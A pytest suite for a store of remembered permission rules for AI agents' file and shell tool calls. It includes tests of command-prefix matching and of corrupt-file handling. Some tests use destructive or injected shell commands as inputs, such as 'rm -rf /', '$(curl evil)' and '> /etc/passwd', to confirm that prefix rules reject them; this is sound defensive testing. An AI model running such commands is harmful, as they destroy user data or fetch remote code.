"""Remembered permission rules: recording, matching, the JSON file, corruption."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest

from acpls.state.rules import (
    Rule,
    RuleStore,
    choose_option,
    command_of,
    command_prefix,
    default_rules_path,
    tool_call_paths,
)

WS = "/ws/project"
OPTIONS = [
    {"optionId": "a1", "name": "Allow", "kind": "allow_once"},
    {"optionId": "a2", "name": "Always allow", "kind": "allow_always"},
    {"optionId": "r1", "name": "Reject", "kind": "reject_once"},
    {"optionId": "r2", "name": "Always reject", "kind": "reject_always"},
]


def edit_call(*paths: str, kind: str = "edit") -> dict[str, Any]:
    return {
        "toolCallId": "c1",
        "title": "Edit",
        "kind": kind,
        "locations": [{"path": p} for p in paths],
        "content": [],
    }


def exec_call(command: Any, title: str = "Run") -> dict[str, Any]:
    return {"toolCallId": "c2", "title": title, "kind": "execute", "rawInput": {"command": command}}


@pytest.fixture
def rules_file(tmp_path: Path) -> Path:
    return tmp_path / "state" / "acpls" / "rules.json"


def store(rules_file: Path, workspace: str = WS) -> RuleStore:
    return RuleStore(workspace, path=rules_file)


def test_allow_always_matches_next_request_in_new_session(rules_file: Path) -> None:
    first = store(rules_file)
    [rule] = first.record("claude", edit_call(f"{WS}/src/main.py"), "allow_always")
    assert rule.path_glob == "src/main.py"
    assert rule.decision == "allow" and rule.kind == "edit" and rule.agent == "claude"
    # A new store reading the same file is what a new session (or acpls restart) sees.
    later = store(rules_file)
    matched = later.match("claude", edit_call(f"{WS}/src/main.py"))
    assert matched == rule
    assert choose_option(rule, OPTIONS) == "a1"
    assert later.match("claude", edit_call(f"{WS}/src/other.py")) is None
    assert later.match("gemini", edit_call(f"{WS}/src/main.py")) is None
    assert later.match("claude", edit_call(f"{WS}/src/main.py", kind="delete")) is None


def test_allow_needs_every_path_covered(rules_file: Path) -> None:
    rules = store(rules_file)
    rules.record("a", edit_call(f"{WS}/a.py"), "allow_always")
    assert rules.match("a", edit_call(f"{WS}/a.py", f"{WS}/b.py")) is None
    rules.record("a", edit_call(f"{WS}/b.py"), "allow_always")
    assert rules.match("a", edit_call(f"{WS}/a.py", f"{WS}/b.py")) is not None


def test_reject_always_and_change_of_mind(rules_file: Path) -> None:
    rules = store(rules_file)
    [reject] = rules.record("a", edit_call(f"{WS}/secrets.env"), "reject_always")
    matched = store(rules_file).match("a", edit_call(f"{WS}/secrets.env", f"{WS}/ok.py"))
    assert matched == reject
    assert choose_option(reject, OPTIONS) == "r1"
    # Answering "always allow" for the same scope later replaces the reject rule.
    [allow] = rules.record("a", edit_call(f"{WS}/secrets.env"), "allow_always")
    assert [r.rule_id for r in rules.list()] == [allow.rule_id]


def test_once_answers_record_nothing(rules_file: Path) -> None:
    rules = store(rules_file)
    assert rules.record("a", edit_call(f"{WS}/a.py"), "allow_once") == []
    assert rules.record("a", edit_call(f"{WS}/a.py"), "reject_once") == []
    assert not rules_file.exists()


def test_file_tool_without_paths_records_nothing(rules_file: Path) -> None:
    rules = store(rules_file)
    assert rules.record("a", edit_call(), "allow_always") == []
    assert rules.match("a", edit_call()) is None


def test_paths_from_v1_and_v2_diffs_and_outside_workspace(rules_file: Path) -> None:
    call = {
        "kind": "move",
        "content": [
            {"type": "diff", "path": f"{WS}/v1.py", "newText": "x"},
            {"type": "diff", "changes": [{"operation": "move", "oldPath": f"{WS}/old.py",
                                          "path": "/elsewhere/new.py"}]},
        ],
    }  # fmt: skip
    assert tool_call_paths(call) == [f"{WS}/v1.py", f"{WS}/old.py", "/elsewhere/new.py"]
    rules = store(rules_file)
    recorded = rules.record("a", call, "allow_always")
    assert [r.path_glob for r in recorded] == ["v1.py", "old.py", "/elsewhere/new.py"]
    assert rules.match("a", call) is not None


def test_glob_special_characters_in_paths_are_exact(rules_file: Path) -> None:
    rules = store(rules_file)
    rules.record("a", edit_call(f"{WS}/pages/[id].tsx"), "allow_always")
    assert rules.match("a", edit_call(f"{WS}/pages/[id].tsx")) is not None
    assert rules.match("a", edit_call(f"{WS}/pages/i.tsx")) is None


def test_a_hand_written_glob_matches(rules_file: Path) -> None:
    rules = store(rules_file)
    [rule] = rules.record("a", edit_call(f"{WS}/docs/a.md"), "allow_always")
    data = json.loads(rules_file.read_text())
    data["rules"][0]["pathGlob"] = "docs/*.md"
    rules_file.write_text(json.dumps(data))
    assert store(rules_file).match("a", edit_call(f"{WS}/docs/b.md")) is not None
    assert store(rules_file).match("a", edit_call(f"{WS}/src/b.md")) is None
    assert rule.rule_id == store(rules_file).list()[0].rule_id


@pytest.mark.parametrize(
    ("command", "prefix"),
    [
        ("git status --short", "git status"),
        ("git -C x log", "git"),
        ("npm run build -- --watch", "npm run build"),
        ("uv run pytest -q", "uv run pytest"),
        ("python -m pytest tests", "python -m pytest"),
        ("python3 script.py", "python3"),
        ("ls -la src", "ls"),
        ("FOO=1 make test", "make test"),
        ("pytest tests/unit", "pytest"),
        ("'my tool' arg", "'my tool'"),
        ("rm -rf build", "rm -rf build"),
        ("sudo apt install x", "sudo apt install x"),
        ("", None),
    ],
)
def test_command_prefix(command: str, prefix: str | None) -> None:
    assert command_prefix(command) == prefix


def test_command_from_raw_input_list_and_title() -> None:
    assert command_of(exec_call(["bash", "-lc", "git push origin"])) == "git push origin"
    assert command_of(exec_call(["git", "log", "a b"])) == "git log 'a b'"
    assert command_of({"kind": "execute", "title": "`cargo test`"}) == "cargo test"


def test_execute_rule_by_command_prefix(rules_file: Path) -> None:
    rules = store(rules_file)
    [rule] = rules.record("a", exec_call("npm test -- --ci"), "allow_always")
    assert rule.command_prefix == "npm test"
    later = store(rules_file)
    assert later.match("a", exec_call("npm test")) == rule
    assert later.match("a", exec_call("npm install")) is None
    # A compound command is never allowed by a prefix rule.
    assert later.match("a", exec_call("npm test && rm -rf /")) is None
    assert later.match("a", exec_call("npm test $(curl evil)")) is None
    assert later.match("a", exec_call("npm test > /etc/passwd")) is None


def test_execute_reject_matches_inside_compound_commands(rules_file: Path) -> None:
    rules = store(rules_file)
    [rule] = rules.record("a", exec_call("git push --force"), "reject_always")
    assert rules.match("a", exec_call("git add . && git push")) == rule
    assert rules.match("a", exec_call("git pull")) is None


def test_whole_kind_and_title_scopes(rules_file: Path) -> None:
    rules = store(rules_file)
    [fetch] = rules.record("a", {"kind": "fetch", "title": "Fetch x"}, "allow_always")
    assert fetch.scope() == (None, None, None)
    assert rules.match("a", {"kind": "fetch", "title": "Fetch y"}) == fetch
    [other] = rules.record("a", {"title": "mcp: do thing"}, "allow_always")
    assert other.kind == "other" and other.tool_title == "mcp: do thing"
    assert rules.match("a", {"kind": "other", "title": "mcp: do thing"}) == other
    assert rules.match("a", {"kind": "other", "title": "mcp: other thing"}) is None


def test_choose_option_falls_back_and_gives_up() -> None:
    rules_store = RuleStore(WS, path="/nonexistent/rules.json")
    assert rules_store.list() == []
    only_always = [{"optionId": "x", "name": "Always", "kind": "allow_always"}]
    rule = _rule("allow")
    assert choose_option(rule, only_always) == "x"
    assert choose_option(rule, [{"optionId": "r", "name": "No", "kind": "reject_once"}]) is None
    assert choose_option(_rule("reject"), only_always) is None


def _rule(decision: str) -> Rule:
    return Rule.from_json(
        {"ruleId": "r", "workspace": WS, "agent": "a", "kind": "edit", "decision": decision,
         "createdAt": "2026-01-01T00:00:00+00:00"}
    )  # fmt: skip


def test_auto_approve_by_kind(rules_file: Path) -> None:
    rules = RuleStore(WS, path=rules_file, auto_approve=["read"])
    options = [OPTIONS[2], OPTIONS[1], OPTIONS[0]]
    assert rules.auto_approve_option({"kind": "read"}, options) == "a2"
    assert rules.auto_approve_option({"kind": "edit"}, options) is None
    assert rules.auto_approve_option({"kind": "read"}, [OPTIONS[2]]) is None


def test_scoped_per_workspace_list_and_remove(rules_file: Path) -> None:
    one = store(rules_file)
    two = store(rules_file, "/ws/other")
    [rule_one] = one.record("a", edit_call(f"{WS}/a.py"), "allow_always")
    [rule_two] = two.record("a", edit_call("/ws/other/a.py"), "allow_always")
    assert one.list() == [rule_one]
    assert one.list("/ws/other") == [rule_two]
    assert two.match("a", edit_call(f"{WS}/a.py")) is None
    assert one.remove(rule_two.rule_id) == rule_two
    assert two.list() == []
    assert one.remove("no-such-rule") is None
    assert one.list() == [rule_one]


def test_file_format_and_atomic_write(rules_file: Path) -> None:
    rules = store(rules_file)
    [rule] = rules.record("a", exec_call("make"), "allow_always")
    data = json.loads(rules_file.read_text())
    assert data == {
        "version": 1,
        "rules": [
            {
                "ruleId": rule.rule_id,
                "workspace": WS,
                "agent": "a",
                "kind": "execute",
                "decision": "allow",
                "createdAt": rule.created_at,
                "commandPrefix": "make",
            }
        ],
    }
    leftovers = [p.name for p in rules_file.parent.iterdir() if p.name.endswith(".tmp")]
    assert leftovers == []


def test_corrupt_file_is_set_aside(rules_file: Path, caplog: pytest.LogCaptureFixture) -> None:
    rules_file.parent.mkdir(parents=True)
    rules_file.write_text('{"rules": [ broken')
    rules = store(rules_file)
    with caplog.at_level(logging.ERROR):
        assert rules.match("a", edit_call(f"{WS}/a.py")) is None
    assert "corrupt" in caplog.text
    aside = [p for p in rules_file.parent.iterdir() if ".corrupt-" in p.name]
    assert len(aside) == 1 and aside[0].read_text() == '{"rules": [ broken'
    assert not rules_file.exists()
    # The store keeps working and writes a fresh file.
    rules.record("a", edit_call(f"{WS}/a.py"), "allow_always")
    assert store(rules_file).match("a", edit_call(f"{WS}/a.py")) is not None


def test_wrong_shape_is_corrupt_and_unknown_entries_are_kept(rules_file: Path) -> None:
    rules_file.parent.mkdir(parents=True)
    rules_file.write_text("[1, 2]")
    assert store(rules_file).list() == []
    assert any(".corrupt-" in p.name for p in rules_file.parent.iterdir())
    future = {"ruleId": "f", "kind": "edit", "decision": "ask-later"}
    rules_file.write_text(json.dumps({"version": 1, "rules": [future]}))
    rules = store(rules_file)
    rules.record("a", edit_call(f"{WS}/a.py"), "allow_always")
    assert json.loads(rules_file.read_text())["rules"][0] == future


def test_default_rules_path() -> None:
    assert default_rules_path({"XDG_STATE_HOME": "/s"}) == Path("/s/acpls/rules.json")
    relative = default_rules_path({"XDG_STATE_HOME": "rel"})
    assert str(relative).endswith(".local/state/acpls/rules.json")
    assert relative.is_absolute()


def test_dangerous_commands_match_exactly(rules_file: Path) -> None:
    rules = store(rules_file)
    [rule] = rules.record("a", exec_call("rm -rf build"), "allow_always")
    assert rules.match("a", exec_call("rm -rf build")) == rule
    assert rules.match("a", exec_call("rm -rf build /")) is None
    assert rules.match("a", exec_call("rm -rf ~")) is None


def test_compound_command_records_nothing(rules_file: Path) -> None:
    rules = store(rules_file)
    assert rules.record("a", exec_call("rm -rf build && make"), "allow_always") == []
    assert rules.record("a", exec_call("cd src; ls"), "reject_always") == []
    assert rules.list() == []
